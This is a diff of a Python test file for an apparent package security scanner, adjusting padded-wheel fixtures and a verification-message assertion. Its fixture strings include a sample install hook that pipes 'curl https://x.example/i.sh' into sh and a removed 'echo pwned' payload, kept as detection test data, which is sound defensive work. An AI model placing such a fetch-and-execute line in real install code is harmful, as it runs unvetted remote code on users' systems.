@@ -21,7 +21,7 @@ SHELL = "import subprocess\n\ndef run():\n    return subprocess.run(['curl', 'ht
 SHELL_EVIDENCE = "return subprocess.run(['curl', 'https://example.com/x'])"
 INSTALL_CURL = "import os\nos.system('curl https://x.example/i.sh | sh')\n"
 INSTALL_NETWORK_BLOCKS = "alerts:\n  install-network: block  # the deprecated name\n"
-PADDED_PAYLOAD = "import os\nos.system('echo pwned')\n"
+PADDED_PAYLOAD = "VERSION = '1.0'\n"
 
 
 def padded_module(size: int) -> str:
@@ -412,7 +412,8 @@ def test_scan_padded_wheel_of_an_unknown_package_blocks(
     assert unverified["message"].startswith(
         "padded 1.0 could not be verified (new: first release "
     )
-    assert "larger than the 20971520 byte file limit" in unverified["message"]
+    # The reason names the file that was not read in full.
+    assert "padded/__init__.py" in unverified["message"]
 
 
 def test_scan_padded_wheel_of_a_ranked_project_is_neutral(
